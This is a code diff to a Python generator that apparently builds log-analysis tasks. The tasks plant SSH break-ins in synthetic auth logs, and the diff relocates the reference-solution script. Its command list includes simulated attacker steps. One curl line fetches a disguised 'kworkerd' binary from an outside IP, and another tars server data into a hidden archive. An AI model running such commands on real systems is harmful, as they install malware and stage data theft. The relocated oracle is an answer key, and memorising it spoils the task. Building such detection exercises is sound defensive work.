@@ -11,6 +11,7 @@ from typing import Any
 import numpy as np
 
 from selftrain.envs.checks import json_check
+from selftrain.envs.families.log_break_in_scripts import ORACLE
 from selftrain.envs.families.material import between, hosts, pick, sample, start_of_story
 from selftrain.envs.verifiers import EvidenceVerifier
 from selftrain.tasks import Limits, Task
@@ -27,44 +28,6 @@ COMMANDS = (
     "/usr/bin/tar czf /var/tmp/.x.tgz /srv/data",
     "/usr/bin/curl -o /usr/local/bin/kworkerd http://203.0.113.9/k",
 )
-
-ORACLE = """\
-cat > /tmp/breakin.py <<'PY'
-import bisect, datetime as dt, glob, gzip, json, os, re
-skip, offsets, newest = {skip!r}, {offsets!r}, dt.datetime.fromisoformat({newest!r})
-least, minutes, follow, trusted = {least}, {minutes}, {follow}, set({trusted!r})
-failures, logins, sudo = {{}}, [], []
-for path in sorted(glob.glob("/workspace/logs/*/auth.log*")):
-    if skip == "rotation" and not path.endswith("auth.log"): continue
-    for line in (gzip.open if path.endswith(".gz") else open)(path, "rt"):
-        m = re.match(r"(\\w{{3}} [ \\d]\\d [\\d:]{{8}}) (\\S+) (\\w+)\\S*: (.*)", line)
-        if not m: continue
-        local = dt.datetime.strptime(f"{{newest.year}} {{m[1]}}", "%Y %b %d %H:%M:%S")
-        if local > newest + dt.timedelta(days=2): local = local.replace(year=newest.year - 1)
-        at = local - dt.timedelta(minutes=0 if skip == "offsets" else offsets[m[2]])
-        times, text = 1, m[4]
-        again = re.match(r"message repeated (\\d+) times: \\[ (.*)\\]$", text)
-        if again:
-            times, text = int(again[1]), again[2]
-            if skip == "repeats": times = 1
-        hit = re.match(r"(Failed|Accepted) (password|publickey) for (?:invalid user )?(\\S+) from (\\S+) port", text)
-        if hit and hit[1] == "Failed" and hit[2] == "password": failures.setdefault(hit[4], []).extend([at] * times)
-        elif hit and hit[1] == "Accepted" and (hit[2] == "password" or skip == "methods"): logins.append((at, m[2], hit[3], hit[4]))
-        who = re.match(r"\\s*(\\S+) : .*COMMAND=(.*)", text) if m[3] == "sudo" else None
-        if who: sudo.append((at, m[2], who[1], who[2].rstrip()))
-report = []
-for at, host, account, address in sorted(logins):
-    if address in trusted and skip != "trust": continue
-    known = sorted(failures.get(address, []))
-    count = bisect.bisect_left(known, at) - bisect.bisect_left(known, at - dt.timedelta(minutes=minutes))
-    if count < least: continue
-    end = at + dt.timedelta(minutes=follow)
-    ran = [command for when, where, who, command in sorted(sudo) if (where, who) == (host, account) and at <= when <= end]
-    report.append({{"time": at.strftime("%Y-%m-%dT%H:%M:%SZ"), "host": host, "account": account, "address": address, "failures": count, "commands": ran}})
-json.dump(report, open("/workspace/report.json", "w"))
-PY
-python3 /tmp/breakin.py
-"""
 
 
 @dataclass(frozen=True)
@@ -121,7 +84,8 @@ def _attack(
     host, account = pick(rng, names), pick(rng, ACCOUNTS)
     wanted = rule.least - 1 if kind == "too few" else rule.least + between(rng, 0, 25)
     shift = timedelta(minutes=rule.minutes + 5) if kind == "too early" else timedelta()
-    events, left = [], wanted
+    events: list[Event] = []
+    left = wanted
     while left:
         times = min(left, between(rng, 2, 5)) if not events or rng.random() < 0.3 else 1
         at = moment - shift - timedelta(seconds=between(rng, 2, rule.minutes * 55))
@@ -236,7 +200,7 @@ def break_in(rng: np.random.Generator, level: int) -> Task:
     if level == 5:  # over the turn of a year, which syslog does not write
         start = start.replace(month=12, day=between(rng, 28, 30))
     hours = {1: 6, 2: 24, 3: 48, 4: 72, 5: 120}[level]
-    events = _background(rng, names, start, hours, {1: 150, 2: 1500, 3: 4000, 4: 10_000, 5: 30_000}[level])
+    events = _background(rng, names, start, hours, {1: 150, 2: 1500, 3: 4000, 4: 8_000, 5: 18_000}[level])
     kinds = ["true"] * (level + 1) + ["too few", "by key"] + ["too early"] * (level >= 2) + ["trusted"] * (level >= 4)
     for number, kind in enumerate(kinds):
         # the first lies in the rotated part, so that nobody can do without it
